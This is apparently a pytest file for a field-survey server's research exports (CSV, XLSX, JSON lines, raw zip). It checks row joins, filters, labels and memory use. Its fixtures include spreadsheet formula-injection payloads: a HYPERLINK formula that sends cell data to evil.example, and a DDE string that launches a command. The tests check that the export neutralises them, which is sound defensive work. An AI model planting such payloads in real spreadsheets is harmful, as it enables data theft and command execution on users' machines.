"""Researchers' downloads (server/exports.py): household income submissions sent through the OpenRosa
endpoint, exported as CSV zip, XLSX, JSON lines and raw zip, and read back with csv, openpyxl, json, zipfile."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import random
import time
import tracemalloc
import zipfile
from pathlib import Path

import openpyxl
import pytest

from bench import samples
from bench.benchmark_export import bulk_households
from server import errors, exports
from server.catalog import FormCache
from server.xforms import parse_xform

from .factories import instance_id_of

FORMS = Path(__file__).resolve().parent.parent / "forms"

DATA = Path(__file__).parent / "data"
PHOTO = "1732262400123.jpg"
INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
MEMBERS = [5, 3, 5, 4, 5, 2]      # roster sizes of the six households
PLACES = [("chanderi", "chanderi-w03", 1)] * 4 + [("sindhudurg", "sindhudurg-parule", 2)] * 2


def _formdef(app, store, project, form_id="household_income"):
    return app.extensions["ppa"].forms.get(store, store.get_form(project["id"], form_id)["current_def_id"])


def _household(form, i: int, rng: random.Random, **extra) -> bytes:
    cluster, hamlet, round_no = PLACES[i]
    answers = samples.household_income(rng, f"{hamlet}-x{i}", cluster=cluster, hamlet=hamlet, members=MEMBERS[i],
                                       on_list=False, head=f"Head {i}", round_no=round_no)
    answers.update(state="Madhya Pradesh", district="Ashoknagar")
    answers.update(extra)
    return samples.instance_xml(form, samples.fill(form, answers, rng))


@pytest.fixture
def sent(collect_client, app, store, project):
    """Six households (four in Chanderi round 1, two in Sindhudurg round 2): #1 with a photo, #2 with a
    formula in a text answer and a loss-making enterprise. Returns the XML sent, in order."""
    form = _formdef(app, store, project)
    rng = random.Random(7)
    xmls = []
    for i in range(len(PLACES)):
        extra: dict = {}
        files = None
        if i == 1:
            extra = {"photo_consent": "yes", "photo": PHOTO}
            files = {PHOTO: (DATA / PHOTO).read_bytes()}
        if i == 2:
            extra = {"respondent_name": INJECTION, "enumerator": "@SUM(1+1)*cmd|' /C calc'!A0",
                     "shock_other": "-5",
                     "enterprise": [{"ent_activity": "weaving", "ent_sales_month": 2000, "ent_costs_month": 3000,
                                     "ent_months": 10, "ent_annual": -10000}]}
        xml = _household(form, i, rng, **extra)
        reply = collect_client.submit(xml, files)
        assert reply.status == 201, reply.text
        xmls.append(xml)
        time.sleep(0.003)  # distinct receipt times (milliseconds) for the date filter
    return xmls


def _export(app, store, project, fmt="csv", form_id="household_income", **kwargs):
    options = exports.ExportOptions(**{k: kwargs.pop(k) for k in ("labels", "choice_labels", "media", "lang", "excel")
                                        if k in kwargs})
    filters = exports.ExportFilters(**kwargs)
    name, content_type, body = exports.export_response_parts(store, app.extensions["ppa"].forms, project["id"],
                                                             form_id, fmt, filters, options)
    return name, content_type, b"".join(body)


def _csv_tables(data: bytes) -> dict[str, list[dict]]:
    archive = zipfile.ZipFile(io.BytesIO(data))
    assert archive.testzip() is None
    out = {}
    for name in archive.namelist():
        if name.endswith(".csv"):
            with archive.open(name) as handle:
                out[name] = list(csv.DictReader(io.TextIOWrapper(handle, encoding="utf-8", newline="")))
    return out


def _csv(app, store, project, **kwargs) -> dict[str, list[dict]]:
    return _csv_tables(_export(app, store, project, "csv", **kwargs)[2])


def _sheets(data: bytes) -> dict[str, list[tuple]]:
    workbook = openpyxl.load_workbook(io.BytesIO(data), read_only=True)
    return {ws.title: list(ws.iter_rows(values_only=True)) for ws in workbook.worksheets}


def test_csv_zip_has_one_row_per_submission_and_rosters_joined_through_parent_key(app, store, project, sent):
    name, content_type, data = _export(app, store, project, "csv")
    assert (name, content_type) == ("household_income.csv.zip", "application/zip")
    tables = _csv_tables(data)
    assert sorted(tables) == ["household_income-enterprise.csv", "household_income-loan.csv",
                              "household_income-member.csv", "household_income-wage.csv", "household_income.csv"]
    main, members = tables["household_income.csv"], tables["household_income-member.csv"]
    assert [r["KEY"] for r in main] == [instance_id_of(x) for x in sent]
    assert list(main[0])[0] == "SubmissionDate"
    assert list(main[0])[-9:] == list(exports.MAIN_AFTER)
    assert list(members[0])[-2:] == ["PARENT_KEY", "KEY"]
    by_household = {}
    for row in members:
        by_household.setdefault(row["PARENT_KEY"], []).append(row)
    assert [len(by_household[r["KEY"]]) for r in main] == MEMBERS
    for household in main:
        roster = by_household[household["KEY"]]
        assert [r["KEY"] for r in roster] == [f"{household['KEY']}/member[{n}]" for n in range(1, len(roster) + 1)]
        assert int(household["n_members"]) == len(roster)
    assert roster[0]["m_name"] == "Head 5" and roster[0]["m_relation"] == "1"
    first = main[0]
    assert first["ReviewState"] == "received" and first["FormVersion"] == parse_xform((FORMS / "household_income.xml").read_bytes()).version
    assert first["SubmitterName"] == "Enumerator 1 phone" and first["DeviceID"] == "collect:Xk3v9QpLm2Zt8RwA"
    assert first["SubmissionDate"].endswith("Z") and first["Edits"] == "0"
    assert main[1]["AttachmentsPresent"] == "1" and main[1]["AttachmentsExpected"] == "1"
    assert first["cluster"] == "chanderi" and first["sector"] == "urban" and first["round"] == "1"
    assert "meta" not in first and "instanceID" not in first


def test_labels_and_choice_labels(app, store, project, sent):
    plain = _csv(app, store, project)["household_income-member.csv"]
    assert "m_age" in plain[0] and plain[0]["m_sex"] == "1"
    labelled = _csv(app, store, project, labels=True)
    main, members = labelled["household_income.csv"], labelled["household_income-member.csv"]
    assert "Who is answering? (main respondent)" in main[0] and "Cluster" in main[0] and "KEY" in main[0]
    assert "Age in completed years" in members[0] and "PARENT_KEY" in members[0]
    assert members[0]["Sex"] == "1"
    chosen = _csv(app, store, project, choice_labels=True)
    main, members = chosen["household_income.csv"], chosen["household_income-member.csv"]
    assert "m_sex" in members[0]
    assert [m["m_sex"] for m in members[:3]] == ["Male", "Female", "Male"]
    assert main[0]["sector"] == "Urban" and main[0]["hh_on_list"] == "No" and main[0]["consent"] == "Yes"
    assert main[0]["cluster"] == "Chanderi handloom"        # from the server-managed clusters.csv list
    assert main[0]["hamlet"] == "Chanderi ward 03"          # and hamlets.csv
    assert main[0]["assets"] == "Mobile phone (basic)"      # a select_multiple


def test_filters_by_cluster_round_review_state_and_date(app, store, project, sent):
    keys = [instance_id_of(x) for x in sent]

    def main_keys(**filters):
        tables = _csv(app, store, project, **filters)
        parents = {r["PARENT_KEY"] for r in tables["household_income-member.csv"]}
        selected = [r["KEY"] for r in tables["household_income.csv"]]
        assert parents == set(selected)   # repeat tables follow the same filter
        return selected

    assert main_keys(clusters=frozenset({"sindhudurg"})) == keys[4:]
    assert main_keys(clusters=frozenset({"chanderi", "sindhudurg"})) == keys
    assert main_keys(round=1) == keys[:4]
    assert main_keys(round=2, clusters=frozenset({"chanderi"})) == []
    # an NDA restricted to Chanderi sees only Chanderi, whatever is asked
    assert main_keys(allowed_clusters=frozenset({"chanderi"})) == keys[:4]
    assert main_keys(allowed_clusters=frozenset({"chanderi"}), clusters=frozenset({"sindhudurg"})) == []

    form = store.get_form(project["id"], "household_income")
    ids = [store.get_submission(form["id"], k)["id"] for k in keys]
    store.set_review_state(ids[0], "approved", "test", "fine")
    store.set_review_state(ids[3], "hasIssues", "test", "check income")
    assert main_keys(review_states=frozenset({"approved"})) == keys[:1]
    assert main_keys(review_states=frozenset({"approved", "hasIssues"})) == [keys[0], keys[3]]
    assert main_keys(review_states=frozenset({"received"})) == [keys[1], keys[2], keys[4], keys[5]]

    created = [store.get_submission(form["id"], k)["created_at"] for k in keys]
    assert len(set(created)) == len(created)
    assert main_keys(received_from=created[2], received_to=created[3]) == keys[2:4]
    assert main_keys(received_from=created[4]) == keys[4:]
    today = dt.datetime.now(dt.timezone.utc).date()
    assert main_keys(received_from=today.isoformat(), received_to=today.isoformat()) == keys
    assert main_keys(received_to=(today - dt.timedelta(days=1)).isoformat()) == []
    assert main_keys(received_from=dt.datetime.fromisoformat(created[5]).astimezone(
        dt.timezone(dt.timedelta(hours=5, minutes=30))).isoformat()) == keys[5:]


def test_formula_injection_neutralised_in_csv_and_xlsx_numbers_kept(app, store, project, sent):
    tables = _csv(app, store, project)
    household = tables["household_income.csv"][2]
    assert household["respondent_name"] == "'" + INJECTION
    assert household["enumerator"].startswith("'@SUM")
    assert household["shock_other"] == "-5"                 # text that is a plain number stays as it is
    enterprise = next(r for r in tables["household_income-enterprise.csv"] if r["PARENT_KEY"] == household["KEY"])
    assert enterprise["ent_annual"] == "-10000"
    assert tables["household_income.csv"][0]["gps-Latitude"][0].isdigit()   # a geopoint's parts are numbers

    sheets = _sheets(_export(app, store, project, "xlsx")[2])
    assert list(sheets) == ["household_income", "member", "wage", "enterprise", "loan"]
    head = sheets["household_income"][0]
    row = dict(zip(head, sheets["household_income"][3]))
    assert row["respondent_name"] == "'" + INJECTION
    assert row["enumerator"].startswith("'@")
    ent_head = sheets["enterprise"][0]
    loss = next(dict(zip(ent_head, r)) for r in sheets["enterprise"][1:] if r[ent_head.index("PARENT_KEY")]
                == row["KEY"])
    assert loss["ent_annual"] == -10000 and isinstance(loss["ent_annual"], (int, float))
    assert isinstance(row["n_members"], int)


def test_xlsx_has_the_csv_tables_with_labels_option(app, store, project, sent):
    name, content_type, data = _export(app, store, project, "xlsx", labels=True, choice_labels=True)
    assert name == "household_income.xlsx" and content_type.endswith("spreadsheetml.sheet")
    sheets = _sheets(data)
    head = sheets["household_income"][0]
    assert len(sheets["household_income"]) == 1 + len(sent)
    assert "Who is answering? (main respondent)" in head and head[0] == "SubmissionDate"
    member_head = sheets["member"][0]
    assert "Age in completed years" in member_head
    assert len(sheets["member"]) == 1 + sum(MEMBERS)
    keys = {r[head.index("KEY")] for r in sheets["household_income"][1:]}
    assert {r[member_head.index("PARENT_KEY")] for r in sheets["member"][1:]} == keys
    assert sheets["member"][1][member_head.index("Sex")] == "Male"


def test_json_lines_nest_repeats(app, store, project, sent):
    name, content_type, data = _export(app, store, project, "jsonl")
    assert (name, content_type) == ("household_income.jsonl", "application/x-ndjson")
    objects = [json.loads(line) for line in data.decode("utf-8").splitlines()]
    assert [o["__id"] for o in objects] == [instance_id_of(x) for x in sent]
    for obj, size in zip(objects, MEMBERS):
        assert len(obj["member"]) == size
        assert [m["__id"] for m in obj["member"]] == [f"{obj['__id']}/member[{n}]" for n in range(1, size + 1)]
        assert len(obj["wage"]) == len(obj["loan"]) == 1
        assert obj["n_members"] == size and isinstance(obj["member"][0]["m_age"], int)
        assert obj["__system"]["reviewState"] == "received"
    assert objects[2]["respondent_name"] == INJECTION        # data formats are not altered
    assert objects[2]["enterprise"][0]["ent_annual"] == -10000
    labelled = [json.loads(line) for line in _export(app, store, project, "jsonl", choice_labels=True)[2].splitlines()]
    assert labelled[0]["member"][0]["m_sex"] == "Male"


def test_raw_zip_holds_the_submitted_bytes_and_attachments(app, store, project, sent):
    name, _, data = _export(app, store, project, "raw")
    assert name == "household_income.raw.zip"
    archive = zipfile.ZipFile(io.BytesIO(data))
    assert archive.testzip() is None
    for xml in sent:
        folder = exports.folder_name(instance_id_of(xml))
        assert archive.read(f"{folder}/submission.xml") == xml
    photo_folder = exports.folder_name(instance_id_of(sent[1]))
    assert archive.read(f"{photo_folder}/{PHOTO}") == (DATA / PHOTO).read_bytes()
    assert len(archive.namelist()) == len(sent) + 1
    only = zipfile.ZipFile(io.BytesIO(_export(app, store, project, "raw", clusters=frozenset({"sindhudurg"}))[2]))
    assert sorted(only.namelist()) == sorted(f"{exports.folder_name(instance_id_of(x))}/submission.xml"
                                             for x in sent[4:])


def test_csv_zip_media_folder(app, store, project, sent):
    data = _export(app, store, project, "csv", media=True)[2]
    archive = zipfile.ZipFile(io.BytesIO(data))
    media = [n for n in archive.namelist() if n.startswith("media/")]
    assert media == [f"media/{exports.folder_name(instance_id_of(sent[1]))}/{PHOTO}"]
    assert archive.read(media[0]) == (DATA / PHOTO).read_bytes()
    main = _csv_tables(data)["household_income.csv"]
    assert main[1]["photo"] == PHOTO


def test_an_edit_exports_its_current_version(collect_client, app, store, project, sent):
    form = _formdef(app, store, project)
    edited = samples.instance_xml(form, {**samples.household_income(random.Random(99), "chanderi-w03-x0",
                                                                     on_list=False, head="Head 0"),
                                         "respondent_name": "Corrected name", "state": "Madhya Pradesh"},
                                  deprecated_id=instance_id_of(sent[0]))
    reply = collect_client.submit(edited)
    assert reply.status == 201, reply.text
    tables = _csv(app, store, project)
    main = tables["household_income.csv"]
    assert len(main) == len(sent)
    row = next(r for r in main if r["respondent_name"] == "Corrected name")
    assert row["KEY"] == instance_id_of(edited) and row["Edits"] == "1" and row["ReviewState"] == "edited"
    roster = [r for r in tables["household_income-member.csv"] if r["PARENT_KEY"] == row["KEY"]]
    assert len(roster) == 5 and roster[0]["KEY"] == f"{row['KEY']}/member[1]"


def test_unknown_form_bad_filters_and_a_form_without_clusters(app, store, project, sent):
    forms = app.extensions["ppa"].forms
    with pytest.raises(errors.Problem) as caught:
        exports.export_response_parts(store, forms, project["id"], "no_such_form", "csv")
    assert caught.value.status == 404
    with pytest.raises(errors.Problem) as caught:
        exports.export_response_parts(store, forms, 999, "household_income", "csv")
    assert caught.value.status == 404
    for fmt, filters in (("pdf", None), ("csv", exports.ExportFilters(review_states=frozenset({"lost"}))),
                         ("csv", exports.ExportFilters(received_from="20th November"))):
        with pytest.raises(errors.Problem) as caught:
            exports.export_response_parts(store, forms, project["id"], "household_income", fmt, filters)
        assert caught.value.status == 400
    # the community test form has no cluster question: asking for one is an error, a restriction gives nothing
    with pytest.raises(errors.Problem) as caught:
        _export(app, store, project, form_id="ppa_community", clusters=frozenset({"chanderi"}))
    assert caught.value.status == 400
    tables = _csv(app, store, project, form_id="ppa_community", allowed_clusters=frozenset({"chanderi"}))
    assert tables["ppa_community.csv"] == []


def test_an_abandoned_download_releases_its_snapshot(app, store, project, sent):
    _, _, body = exports.export_response_parts(store, app.extensions["ppa"].forms, project["id"],
                                               "household_income", "jsonl")
    assert next(body)
    body.close()
    _, _, body = exports.export_response_parts(store, app.extensions["ppa"].forms, project["id"],
                                               "household_income", "csv")
    next(body)
    body.close()


def _peak_during_export(store, forms, project_id) -> tuple[int, int]:
    plan = exports.prepare(store, forms, project_id, "household_income")
    tracemalloc.start()
    try:
        tracemalloc.reset_peak()
        before = tracemalloc.get_traced_memory()[0]
        written = sum(len(chunk) for chunk in exports.csv_zip(plan))
        peak = tracemalloc.get_traced_memory()[1] - before
    finally:
        tracemalloc.stop()
    assert written > 0
    return peak, written


def test_memory_stays_flat_as_submissions_grow(app, store, project):
    forms = FormCache()
    bulk_households(store, forms, project["id"], 2_000, templates=20)
    small, _ = _peak_during_export(store, forms, project["id"])
    bulk_households(store, forms, project["id"], 6_000, templates=20, seed=2)
    large, _ = _peak_during_export(store, forms, project["id"])
    with store.export_snapshot() as snapshot:
        plan = exports.prepare(store, forms, project["id"], "household_income")
        assert snapshot.count(plan.filter) == 8_000
        assert snapshot.count(plan.filter, plan.tables[1].name) == 40_000
    assert large < 1.5 * small, (small, large)


def test_columns_are_the_union_of_form_versions(collect_client, app, store, project):
    from . import factories
    from .helpers import publish, variant

    first = factories.community(group_name="Weavers' group")
    assert collect_client.submit(first, {"1732262400123.jpg": (DATA / PHOTO).read_bytes()}).status == 201
    publish(store, project["id"], variant(version="2024112202", extra_field=("looms_idle", "int")))
    second = factories.community(version="2024112202", looms_idle="3")
    assert collect_client.submit(second).status == 201
    tables = _csv(app, store, project, form_id="ppa_community")
    main = tables["ppa_community.csv"]
    assert [r["FormVersion"] for r in main] == ["2024112201", "2024112202"]
    assert [r["looms_idle"] for r in main] == ["", "3"]
    assert [r["instanceName"] for r in main] == ["v001 - test", "v001 - test"]
    assert [(r["AttachmentsPresent"], r["AttachmentsExpected"]) for r in main] == [("1", "1"), ("0", "1")]
    groups = tables["ppa_community-wealth_group.csv"]
    assert [g["PARENT_KEY"] for g in groups] == [main[0]["KEY"]] * 2 + [main[1]["KEY"]] * 2
    assert groups[1]["wg_share"] == "15.5" and groups[0]["wg_share"] == "40"
    objects = [json.loads(line) for line in _export(app, store, project, "jsonl", form_id="ppa_community")[2]
               .splitlines()]
    assert [o["looms_idle"] for o in objects] == [None, 3]
    assert objects[0]["wealth_group"][1]["wg_share"] == 15.5
